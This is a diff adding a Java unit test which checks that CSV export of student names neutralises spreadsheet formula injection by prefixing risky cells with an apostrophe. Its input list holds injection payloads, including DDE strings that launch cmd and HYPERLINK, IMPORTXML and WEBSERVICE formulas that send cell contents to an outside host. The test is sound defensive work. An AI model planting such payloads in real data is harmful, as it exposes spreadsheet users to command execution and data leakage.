@@ -128,6 +128,34 @@ class TableTest {
         world.ask("/students").andExpect(jsonPath("$.items[0].familyName").value(name));
     }
 
+    @Test
+    void no_cell_begins_as_a_formula_does_whatever_follows() throws Exception {
+        var rest =
+                List.of(
+                        "1+1",
+                        "SUM(A1:A9)",
+                        "cmd|' /C calc'!A0",
+                        "HYPERLINK(\"http://example.org?\"&A1,\"me\")",
+                        "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
+                        "WEBSERVICE(\"http://example.org\")",
+                        "DDE(\"cmd\";\"/C calc\";\"x\")",
+                        "\"a\",\"b\"",
+                        "-2+3+cmd|' /C calc'!D2",
+                        " 1");
+        var beginnings = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20";
+        int count = 0;
+        for (int n = 0; n < beginnings.length(); n++)
+            for (var formula : rest)
+                world.commit(
+                        student("s-" + count++, "Ada", beginnings.substring(n, n + 1) + formula));
+        assertThat(count).isGreaterThanOrEqualTo(100);
+        var rows = csv("/students");
+        assertThat(rows).hasSize(count + 1);
+        int name = rows.getFirst().indexOf("familyName");
+        assertThat(rows.stream().skip(1).map(row -> row.get(name)))
+                .allMatch(cell -> cell.startsWith("'"));
+    }
+
     @ParameterizedTest
     @ValueSource(strings = {"O'Neill", "a=b", "Müller-Lüdenscheidt", "李", "a,\"b\"", "1-2"})
     void what_is_no_formula_stays_as_it_is(String name) throws Exception {
